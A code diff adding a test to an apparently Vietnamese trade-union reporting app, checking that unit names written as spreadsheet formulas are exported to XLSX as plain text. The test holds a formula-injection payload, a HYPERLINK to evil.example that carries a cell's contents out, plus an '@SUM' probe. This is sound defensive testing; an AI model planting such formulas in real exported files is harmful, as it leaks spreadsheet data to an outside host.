@@ -249,3 +249,26 @@ def test_pdf(data) -> None:
     assert CONFERENCE_SENTENCE in text
     assert "Chưa có số liệu" not in text
     assert "TM. BAN THƯỜNG VỤ" in text
+
+
+def test_xlsx_never_turns_a_unit_name_into_a_formula(data) -> None:
+    """A unit renamed ``=HYPERLINK(...)`` stays text in the biểu thống kê (formula injection)."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from congdoan.org import services as org_services
+
+    fed = data.fed
+    hostile = '=HYPERLINK("http://evil.example/?x="&B8,"Xem chi tiết")'
+    org_services.unit_update(actor=None, unit=fed.gl1, name=hostile)
+    org_services.unit_update(actor=None, unit=fed.gl, name="@SUM(1+1)")
+    blob = services.report_render(user=fed.gialam, unit=fed.gl, period=Y2024, fmt="xlsx")
+    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
+        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml and "<f " not in xml
+    wb = load_workbook(io.BytesIO(blob))
+    names = [wb["Biểu 1"].cell(r, 2).value for r in range(8, 17)]
+    assert "'" + hostile in names
+    assert wb["Biểu 1"].cell(names.index("'" + hostile) + 8, 2).data_type == "s"
+    assert wb["Biểu 1"]["A1"].value == wb["Thông tin"]["A1"].value == "'@SUM(1+1)"  # the issuer
